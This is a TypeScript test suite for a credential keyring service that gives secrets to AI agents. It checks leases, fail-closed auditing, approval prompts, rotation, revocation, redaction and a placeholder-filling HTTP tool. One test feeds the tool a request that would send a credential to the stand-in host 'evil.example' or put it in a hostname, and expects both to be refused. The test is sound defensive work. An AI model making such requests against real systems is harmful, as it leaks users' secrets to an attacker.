/**
 * KeyringService end to end over in-memory stores and a real audit file: the decision order,
 * fail-closed audit, approvals, rotation notifications and leases.
 */
import { strict as assert } from 'node:assert';
import * as fs from 'node:fs';
import * as http from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterEach, describe, it } from 'node:test';
import type { CallContext } from '../../src/core/api';
import { verifyAuditFile } from '../../src/core/audit/verify';
import { KeyringError } from '../../src/core/errors';
import { SecretValue } from '../../src/core/model';
import type { ApprovalAnswer, ApprovalRequest } from '../../src/core/ports';
import { FakeClock } from '../fakes/fakeClock';
import { createTestKeyring, type TestKeyring } from '../helpers/testKeyring';

const research: CallContext = { agentId: 'research-agent', client: { name: 'test-client', version: '1' } };
const release: CallContext = { agentId: 'release-agent' };
const quiet = { actions: { first_use: 'off', unusual_hours: 'off' } } as const;

async function refusal(p: Promise<unknown>): Promise<KeyringError> {
  try {
    await p;
  } catch (e) {
    assert.ok(e instanceof KeyringError, `expected a KeyringError, got ${String(e)}`);
    return e;
  }
  assert.fail('expected a refusal');
}

function auditLines(k: TestKeyring): Record<string, unknown>[] {
  return fs
    .readFileSync(k.auditPath, 'utf8')
    .split('\n')
    .filter(Boolean)
    .map((l) => JSON.parse(l) as Record<string, unknown>);
}

function assertNoCanary(k: TestKeyring, text: string): void {
  for (const v of Object.values(k.values)) {
    assert.ok(!text.includes(v), 'a secret value leaked');
  }
}

describe('KeyringService', () => {
  let k: TestKeyring | undefined;
  afterEach(async () => {
    await k?.dispose();
    k = undefined;
  });

  it('hands out the current value with a lease and audits it with a fingerprint, never the value', async () => {
    const clock = new FakeClock('2026-11-26T10:00:00Z');
    k = await createTestKeyring({ clock, anomaly: quiet });
    const got = await k.service.getCredential(research, {
      name: 'scavio_api_key',
      scope: 'search_read',
      reason: 'search',
    });
    assert.equal(got.value.reveal(), k.values.scavio_api_key);
    assert.equal(got.version, 1);
    assert.equal(got.expires_in, 3600);
    assert.equal(got.expires_at, '2026-11-26T11:00:00.000Z');
    assert.match(got.lease_id, /^lease_/);
    assert.equal(JSON.stringify(got).includes(k.values.scavio_api_key), false, 'toJSON must redact');
    const [line] = auditLines(k).filter((e) => e.tool === 'get_credential');
    assert.equal(line.decision, 'allow');
    assert.equal(line.lease_id, got.lease_id);
    assert.match(String(line.value_fingerprint), /^hmac-sha256:[0-9a-f]{64}$/);
    assert.deepEqual(line.client, { name: 'test-client', version: '1' });
    assertNoCanary(k, fs.readFileSync(k.auditPath, 'utf8'));
    assert.equal((await k.service.leases({ agentId: 'research-agent', activeOnly: true })).length, 1);
  });

  it('is fail-closed: no audit line, no value', async () => {
    k = await createTestKeyring({ anomaly: quiet });
    await k.service.getCredential(research, { name: 'scavio_api_key', scope: 'search_read' });
    // Replace the audit file by a directory: every further write fails.
    fs.rmSync(k.auditPath);
    fs.mkdirSync(k.auditPath);
    const e = await refusal(
      k.service.getCredential(research, { name: 'scavio_api_key', scope: 'search_read' }),
    );
    assert.equal(e.code, 'audit_unavailable');
    assertNoCanary(k, e.message);
    assertNoCanary(k, k.logger.lines.join('\n'));
    // The disk recovers: requests work again.
    fs.rmdirSync(k.auditPath);
    const again = await k.service.getCredential(research, { name: 'scavio_api_key', scope: 'search_read' });
    assert.equal(again.value.reveal(), k.values.scavio_api_key);
  });

  it('with the audit key deferred (VS Code activation), a failed key read is fail-closed: no value, a clear log line', async () => {
    k = await createTestKeyring({
      anomaly: quiet,
      deferAuditKey: true,
      beforeOpen: (secrets) => secrets.failOn('get', 1), // the first read is the audit key's
    });
    const e = await refusal(
      k.service.getCredential(research, { name: 'scavio_api_key', scope: 'search_read' }),
    );
    assert.equal(e.code, 'audit_unavailable');
    assertNoCanary(k, e.message);
    assert.match(k.logger.lines.join('\n'), /the audit key could not be read/);
    assertNoCanary(k, k.logger.lines.join('\n'));
    assert.equal((await k.service.leases({ agentId: 'research-agent', activeOnly: true })).length, 0);
  });

  it('refuses by policy before anomaly rules, and audits the denial', async () => {
    k = await createTestKeyring({ anomaly: quiet });
    assert.equal(
      (await refusal(k.service.getCredential(research, { name: 'nope', scope: 'x' }))).code,
      'not_found',
    );
    // A name that is also an Object.prototype property must not resolve to it.
    assert.equal(
      (await refusal(k.service.getCredential(research, { name: 'constructor', scope: 'x' }))).code,
      'not_found',
    );
    // Granted to another agent only: the agent sees not_found; the audit line keeps the true reason.
    assert.equal(
      (await refusal(k.service.getCredential(research, { name: 'npm_token', scope: 'publish' }))).code,
      'not_found',
    );
    assert.equal(
      (await refusal(k.service.getCredential(research, { name: 'scavio_api_key', scope: 'admin' }))).code,
      'scope_denied',
    );
    const denials = auditLines(k).filter((e) => e.decision === 'deny');
    assert.deepEqual(
      denials.map((e) => e.code),
      ['not_found', 'not_found', 'agent_denied', 'scope_denied'],
    );
  });

  it('a claimed agent_id that is not the token’s agent is denied and alerted', async () => {
    const alerts: string[] = [];
    k = await createTestKeyring({
      anomaly: quiet,
      alerts: { alert: (a) => alerts.push(`${a.action}:${a.rules.join(',')}`) },
    });
    const e = await refusal(
      k.service.getCredential(research, {
        name: 'scavio_api_key',
        scope: 'search_read',
        agent_id: 'release-agent',
      }),
    );
    assert.equal(e.code, 'anomaly_denied');
    assert.deepEqual(alerts, ['deny:agent_id_mismatch']);
    const [line] = auditLines(k).filter((x) => x.decision === 'deny');
    assert.equal(line.claimed_agent_id, 'release-agent');
    assert.equal(line.agent_id, 'research-agent');
  });

  it('holds a sensitive scope for approval: deny, once, and for one hour', async () => {
    const clock = new FakeClock('2026-11-26T03:12:00Z');
    const answers: ApprovalAnswer[] = ['deny', 'once', 'hour'];
    const asked: ApprovalRequest[] = [];
    k = await createTestKeyring({
      clock,
      anomaly: quiet,
      approver: {
        ask: async (r) => {
          asked.push(r);
          return answers.shift() ?? 'deny';
        },
      },
    });
    const args = { name: 'scavio_api_key', scope: 'publish', reason: 'ship the release' };
    assert.equal((await refusal(k.service.getCredential(research, args))).code, 'approval_denied');
    assert.equal((await k.service.getCredential(research, args)).value.reveal(), k.values.scavio_api_key);
    await k.service.getCredential(research, args); // "Allow for 1 hour"
    await k.service.getCredential(research, args); // remembered: not asked again
    assert.equal(asked.length, 3);
    assert.equal(asked[0].reason, 'ship the release');
    assert.deepEqual(asked[0].rules, ['sensitive_scope']);
    clock.advance(3_600_001);
    await refusal(k.service.getCredential(research, args)); // the hour is over: asked again, answers run out → deny
    assert.equal(asked.length, 4);
    const decisions = auditLines(k)
      .filter((e) => e.tool === 'get_credential')
      .map((e) => e.decision);
    assert.deepEqual(decisions, ['deny', 'approved', 'approved', 'approved', 'deny']);
  });

  it("records who decided a held request (Deny, timeout, once, hour, earlier grant) and keeps the agent's reason", async () => {
    const clock = new FakeClock('2026-11-26T03:12:00Z');
    const answers: ApprovalAnswer[] = ['deny', 'timeout', 'once', 'hour'];
    k = await createTestKeyring({
      clock,
      anomaly: quiet,
      approver: { ask: async () => answers.shift() ?? 'deny' },
    });
    // A reason that quotes another credential's value: kept, but redacted.
    const reason = `ship the release (not ${k.values.npm_token})`;
    const args = { name: 'scavio_api_key', scope: 'publish', reason };
    const denied = await refusal(k.service.getCredential(research, args));
    assert.equal(denied.code, 'approval_denied');
    await refusal(k.service.getCredential(research, args)); // timeout
    await k.service.getCredential(research, args); // once
    await k.service.getCredential(research, args); // hour
    await k.service.getCredential(research, args); // the hour's grant: not asked
    const lines = auditLines(k).filter((e) => e.tool === 'get_credential');
    assert.deepEqual(
      lines.map((e) => [e.decision, e.approval]),
      [
        ['deny', 'deny'],
        ['deny', 'timeout'],
        ['approved', 'once'],
        ['approved', 'hour'],
        ['approved', 'grant'],
      ],
    );
    for (const line of lines) {
      assert.equal(line.reason, 'ship the release (not [REDACTED])', 'the stated reason, redacted');
    }
    assert.match(String(lines[0].refusal), /^The user denied 'publish' on 'scavio_api_key'/);
    assert.equal('refusal' in lines[2], false, 'an allow has no refusal');
    // A request that needs no approval gets no approval field.
    await k.service.getCredential(research, { name: 'scavio_api_key', scope: 'search_read' });
    assert.equal('approval' in auditLines(k).at(-1)!, false);
    assertNoCanary(k, fs.readFileSync(k.auditPath, 'utf8'));
    await k.keyring.audit.flush();
    const key = await k.keyring.audit.chainKey();
    const verified = await verifyAuditFile(k.auditPath, undefined, { chainKeys: key ? [key] : [] });
    assert.equal(verified.ok, true, JSON.stringify(verified.firstBad));
  });

  it('headless (no approver), a sensitive scope is approval_denied with a message that says how to allow it', async () => {
    k = await createTestKeyring({ anomaly: quiet });
    const e = await refusal(
      k.service.getCredential(release, { name: 'npm_token', scope: 'publish', reason: 'release 2.0' }),
    );
    assert.equal(e.code, 'approval_denied');
    assert.match(e.message, /no one to ask/);
    // It names the file and the key to change, so the user can act without reading the docs.
    assert.match(e.message, /"actions\.sensitive_scope" to "alert" in the server's policy\.json/);
    const line = auditLines(k).at(-1)!;
    assert.equal(line.approval, 'no_approver', 'the audit line says nobody could be asked');
    assert.equal(line.reason, 'release 2.0');
    assert.match(String(line.refusal), /no one to ask/);
  });

  it('rotation: the next request gets the new version; listeners hear it exactly once', async () => {
    k = await createTestKeyring({ anomaly: quiet });
    const heard: string[] = [];
    k.service.onDidRotate((n) => heard.push(n));
    const next = 'canary-rotated-' + Math.random().toString(36).slice(2);
    const r = await k.service.rotate('scavio_api_key', {
      value: new SecretValue(next),
      graceSeconds: 300,
      actor: 'cli',
    });
    assert.equal(r.version, 2);
    assert.equal(r.previous_version, 1);
    assert.ok(r.previous_valid_until);
    const got = await k.service.getCredential(research, { name: 'scavio_api_key', scope: 'search_read' });
    assert.equal(got.version, 2);
    assert.equal(got.value.reveal(), next);
    await new Promise((res) => setImmediate(res));
    assert.deepEqual(heard, ['scavio_api_key']);
    const text = fs.readFileSync(k.auditPath, 'utf8');
    assert.ok(!text.includes(next));
    assert.ok(auditLines(k).some((e) => e.decision === 'rotated' && e.version === 2));
  });

  it('a rotation written by someone else (another window or process) is announced', async () => {
    k = await createTestKeyring({ anomaly: quiet });
    const heard: string[] = [];
    k.service.onDidRotate((n) => heard.push(n));
    // Straight to the store, as another process would: the service did not do it.
    await k.keyring.store.rotate('github_token', {
      value: new SecretValue('canary-elsewhere-1234'),
      graceSeconds: 0,
      actor: 'cli',
    });
    await new Promise((res) => setTimeout(res, 20));
    assert.deepEqual(heard, ['github_token']);
  });

  it('agents rotate only what lists them in rotation_agents; no value and no generator is no_generator', async () => {
    k = await createTestKeyring({ anomaly: quiet });
    assert.equal(
      (await refusal(k.service.rotateCredential(research, { name: 'scavio_api_key' }))).code,
      'rotate_denied',
    );
    assert.equal(
      (await refusal(k.service.rotateCredential(release, { name: 'npm_token' }))).code,
      'no_generator',
    );
    const gen = await k.service.rotateCredential(research, { name: 'github_token' });
    assert.equal(gen.version, 2);
    const secret = 'canary-agent-rotate-5678';
    const r = await k.service.rotateCredential(release, {
      name: 'npm_token',
      new_value: new SecretValue(secret),
      grace_seconds: 60,
    });
    assert.equal(r.version, 2);
    assert.ok(!fs.readFileSync(k.auditPath, 'utf8').includes(secret));
  });

  it('revoking an agent revokes its leases and its token', async () => {
    k = await createTestKeyring({ anomaly: quiet });
    await k.service.getCredential(research, { name: 'scavio_api_key', scope: 'search_read' });
    await k.service.revokeAgent('research-agent', 'cli');
    assert.equal((await k.service.leases({ agentId: 'research-agent', activeOnly: true })).length, 0);
    assert.ok((await k.service.leases({ agentId: 'research-agent' }))[0].revoked_at);
    assert.equal(await k.service.authenticate(k.tokens['research-agent']), undefined);
    assert.equal(
      (await refusal(k.service.getCredential(research, { name: 'scavio_api_key', scope: 'search_read' })))
        .code,
      'unauthorized',
    );
  });

  it('expired leases are swept from memory, at most once a minute', async () => {
    const clock = new FakeClock('2026-11-26T10:00:00Z');
    k = await createTestKeyring({ clock, anomaly: { ...quiet, burst_per_minute: 1000 } });
    for (let i = 0; i < 5; i++) {
      await k.service.getCredential(research, { name: 'github_token', scope: 'repo_read' }); // ttl 900 s
    }
    assert.equal((await k.service.leases()).length, 5);
    clock.advance(901_000);
    await k.service.getCredential(research, { name: 'github_token', scope: 'repo_read' });
    assert.equal((await k.service.leases()).length, 1, 'the five expired leases are gone');
    assert.equal((await k.service.leases({ activeOnly: true })).length, 1);
  });

  it('list_credentials shows only what the agent may use, never values', async () => {
    k = await createTestKeyring({ anomaly: quiet });
    const list = await k.service.listCredentials(research);
    assert.deepEqual(
      list.map((c) => c.name),
      ['github_token', 'scavio_api_key'],
    );
    assertNoCanary(k, JSON.stringify(list));
  });

  describe('http_request', () => {
    let upstream: http.Server | undefined;
    let seen: { url?: string; auth?: string } = {};
    afterEach(() => {
      upstream?.close();
      upstream = undefined;
    });

    async function startUpstream(): Promise<string> {
      upstream = http.createServer((req, res) => {
        seen = { url: req.url, auth: req.headers.authorization };
        res.setHeader('x-echo', String(req.headers.authorization));
        res.end(JSON.stringify({ youSent: req.headers.authorization, url: req.url }));
      });
      await new Promise<void>((r) => upstream?.listen(0, '127.0.0.1', r));
      return `127.0.0.1:${(upstream.address() as AddressInfo).port}`;
    }

    it('fills the placeholder server-side and redacts the value from the answer', async () => {
      const host = await startUpstream();
      k = await createTestKeyring({ anomaly: quiet, allowedHosts: [host] });
      const res = await k.service.httpRequest(research, {
        credential: 'scavio_api_key',
        scope: 'search_read',
        method: 'GET',
        url: `http://${host}/search?q=x&key={{credential}}`,
        headers: { Authorization: 'Bearer {{credential}}' },
      });
      assert.equal(seen.auth, `Bearer ${k.values.scavio_api_key}`);
      assert.ok(seen.url?.includes(encodeURIComponent(k.values.scavio_api_key)));
      assert.equal(res.status, 200);
      assertNoCanary(k, JSON.stringify(res));
      assert.match(res.body, /\[REDACTED\]/);
      assert.equal(res.headers['x-echo'], 'Bearer [REDACTED]');
    });

    it('refuses hosts not allowed, the placeholder in the host, and reports a dead upstream without the value', async () => {
      const host = await startUpstream();
      k = await createTestKeyring({ anomaly: quiet, allowedHosts: [host] });
      const base = { credential: 'scavio_api_key', scope: 'search_read', method: 'GET' };
      assert.equal(
        (
          await refusal(
            k.service.httpRequest(research, { ...base, url: 'https://evil.example/{{credential}}' }),
          )
        ).code,
        'host_denied',
      );
      assert.equal(
        (await refusal(k.service.httpRequest(research, { ...base, url: 'https://{{credential}}.example/' })))
          .code,
        'invalid_input',
      );
      upstream?.close();
      await new Promise((r) => setTimeout(r, 10));
      const e = await refusal(
        k.service.httpRequest(research, { ...base, url: `http://${host}/?k={{credential}}` }),
      );
      assert.equal(e.code, 'upstream_error');
      assertNoCanary(k, e.message);
    });
  });
});
